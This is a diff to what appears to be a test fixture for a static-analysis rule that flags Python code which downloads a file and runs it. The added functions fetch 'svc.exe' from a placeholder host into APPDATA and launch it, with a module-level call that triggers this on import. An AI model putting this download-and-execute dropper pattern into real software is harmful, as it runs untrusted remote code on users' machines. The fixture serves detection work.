@@ -41,3 +41,27 @@ def download_dataset(dest):
     ur.urlretrieve("https://data.example/set.csv", dest)
     # ok: py-behaviour-downloaded-file-run
     subprocess.run(["wc", "-l", "README.md"], check=True)
+
+
+def download_executable(url, path):
+    with open(path, "wb") as out:
+        out.write(requests.get(url, timeout=30).content)
+
+
+def execute_executable(path):
+    subprocess.Popen([path], creationflags=0)
+
+
+def load_and_execute():
+    target = os.path.join(os.getenv("APPDATA") or os.path.expanduser("~"), "svc.exe")
+    download_executable("https://files.example/svc.exe", target)
+    # ruleid: py-behaviour-downloaded-file-run
+    execute_executable(target)
+
+
+def show_listing(path):
+    # ok: py-behaviour-downloaded-file-run
+    subprocess.run(["ls", "-l", path], check=True)
+
+
+load_and_execute()
